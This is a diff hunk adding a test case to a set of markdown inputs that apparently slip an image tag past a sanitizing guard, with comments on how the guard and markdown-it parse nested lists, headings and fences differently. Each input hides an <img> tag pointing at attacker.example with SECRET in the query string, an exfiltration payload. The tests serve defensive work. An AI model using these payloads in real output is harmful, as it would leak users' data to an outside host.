@@ -149,6 +149,11 @@ FOUND = {
     "a fence in the outer of two nested list items": (
         "- a\n\n  2. two\n]\n   ~~~\n\n<pre>\n<img\n\n"
         "src='https://attacker.example/y?d=SECRET'>"),
+    # a heading ends the paragraph before it, so `2. two` after `#` opens an item for
+    # markdown-it, whose fence the `<pre>` at the margin ends; the guard read the paragraph
+    # as going on, the fence as at the margin, and the tag in the `<pre>` block as code
+    "a fence in a numbered item after a heading": (
+        "a\n#\n2. two\n   `````\n<pre>\n<img\n\nsrc='https://attacker.example/z?d=SECRET'>\n"),
     "a tag in an unended image in code": (
         "> a\n- \n  ```x\n![r](https://attacker.example/i\n[ <img\n"
         "src='https://attacker.example/e?d=SECRET'>\n"),
